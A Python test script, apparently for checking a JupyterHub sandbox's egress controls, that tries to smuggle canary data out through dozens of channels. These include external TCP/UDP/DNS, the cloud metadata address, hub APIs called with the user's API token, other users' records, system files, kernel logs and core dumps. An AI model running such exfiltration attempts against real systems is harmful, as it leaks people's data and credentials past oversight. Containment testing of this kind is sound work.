# ruff: noqa: PLR0917, PTH123, SIM115
# Runs inside: every attempt may fail in its own way, and what matters is what is found outside afterwards.
"""Runs in a kernel, takes persons' rows from the workspace and tries every documented way out. `MARKS` is set before."""

import base64
import contextlib
import gzip
import http.client
import json
import os
import socket
import subprocess
import sys
import zlib

tried = []


def attempt(channel, action, *arguments):
    """Try it with each form of a mark; what comes of it does not matter here."""
    tried.append(channel)
    for mark in MARKS[:3]:  # noqa: F821 - given by the test
        raw = mark.encode()
        for form in (raw, raw.hex().encode(), base64.b64encode(raw), raw[::-1], gzip.compress(raw), zlib.compress(raw)):
            with contextlib.suppress(Exception):
                action(form, *arguments)


def text(form):
    return form.decode("latin-1").replace("\n", "").replace("\r", "")


def packet(form, family, kind, address):
    with socket.socket(family, kind) as s:
        s.settimeout(1)
        s.connect(address)
        s.send(form)


def asked(form, door, method, path, body=None, header="X-Note"):
    connection = http.client.HTTPConnection("room", timeout=10)
    connection.sock = socket.socket(socket.AF_UNIX)
    connection.sock.settimeout(10)
    connection.sock.connect(f"/run/egress/{door}.sock")
    token = "token " + os.environ["JUPYTERHUB_API_TOKEN"]
    headers = {"Authorization": token, header: text(form), "Content-Type": "application/json"}
    connection.request(method, path.replace("MARK", form.hex() if b"\x00" in form else text(form)), body, headers)
    connection.getresponse().read()
    connection.close()


def garbled(form, door):
    packet(
        form + b" / HTTP/1.1\r\nHost: " + form + b"\r\n\r\n",
        socket.AF_UNIX,
        socket.SOCK_STREAM,
        f"/run/egress/{door}.sock",
    )


def written(form, folder):
    with open(f"{folder}/{form.hex()}", "wb") as file:
        file.write(form)


def titled(form):
    subprocess.run(
        [sys.executable, "-c", "import sys; raise SystemExit(sys.argv[1])", text(form)],
        timeout=20,
        check=False,
        capture_output=True,
    )


V4, V6, TCP, UDP = socket.AF_INET, socket.AF_INET6, socket.SOCK_STREAM, socket.SOCK_DGRAM
attempt("tcp", packet, V4, TCP, ("1.1.1.1", 443))
attempt("udp", packet, V4, UDP, ("1.1.1.1", 53))
attempt("tcp6", packet, V6, TCP, ("2606:4700:4700::1111", 443))
attempt("metadata address", packet, V4, TCP, ("169.254.169.254", 80))
attempt("abstract socket", packet, socket.AF_UNIX, UDP, "\0hvelv")
attempt("system log", packet, socket.AF_UNIX, UDP, "/dev/log")
for number in (16, 17, 38, 40):
    attempt(f"family {number}", lambda form, number=number: packet(form, number, UDP, (0, 0)))
attempt("name service", lambda form: socket.getaddrinfo(form.hex()[:60] + ".example.org", 80))
for port in PORTS:  # noqa: F821 - given by the test
    attempt(f"port {port}", packet, V4, TCP, ("127.0.0.1", port))
for door in ("hub", "lab"):
    attempt(f"{door}: not HTTP", garbled, door)
    attempt(f"{door}: path", asked, door, "GET", "/lab/MARK")
    attempt(f"{door}: query", asked, door, "GET", "/hub/api/user?note=MARK")
    attempt(f"{door}: method", lambda form, door=door: asked(form, door, text(form).upper()[:40], "/lab/project"))
    attempt(f"{door}: agent", asked, door, "GET", "/lab/project", None, "User-Agent")
    attempt(f"{door}: actor", asked, door, "GET", "/lab/project", None, "X-Hvelv-Actor")
    attempt(f"{door}: referrer", asked, door, "GET", "/hub/api/user", None, "Referer")
person = os.environ["JUPYTERHUB_USER"]
ACTIVITY = f"/hub/api/users/{person}/activity"
attempt("activity: time", lambda f: asked(f, "hub", "POST", ACTIVITY, json.dumps({"last_activity": text(f)})))
attempt(
    "activity: server",
    lambda f: asked(f, "hub", "POST", ACTIVITY, json.dumps({"servers": {text(f): {"last_activity": text(f)}}})),
)
attempt("activity: body", lambda f: asked(f, "hub", "POST", ACTIVITY, f))
attempt(
    "hub: token", lambda f: asked(f, "hub", "POST", "/hub/api/oauth2/token", b"grant_type=authorization_code&code=" + f)
)
attempt("hub: other person", asked, "hub", "GET", "/hub/api/users/MARK")
for folder in (
    "/tmp",
    "/dev/shm",
    "/run/srv",
    "/run/egress",
    "/run",
    "/etc/jupyter",
    "/usr",
    "/opt/hvelv/env",
    "/proc/sys/kernel",
    "/mnt",
    "/var/tmp",
):
    attempt(f"file in {folder}", written, folder)
attempt("kernel's log", lambda form: open("/dev/kmsg", "wb").write(form))
attempt("terminal", lambda form: open("/dev/tty", "wb").write(form))
attempt("process title and exit", titled)
attempt("own name", lambda form: open("/proc/self/comm", "wb").write(form))
attempt("server's output", lambda form: os.write(sys.stdout._original_stdstream_copy, form + b"\n"))
attempt("server's errors", lambda form: os.write(sys.stderr._original_stdstream_copy, form + b"\n"))
attempt(
    "a core",
    lambda form: subprocess.run(
        [sys.executable, "-c", f"x = {form!r}; import os; os.abort()"], timeout=20, check=False, capture_output=True
    ),
)
print(json.dumps(tried))
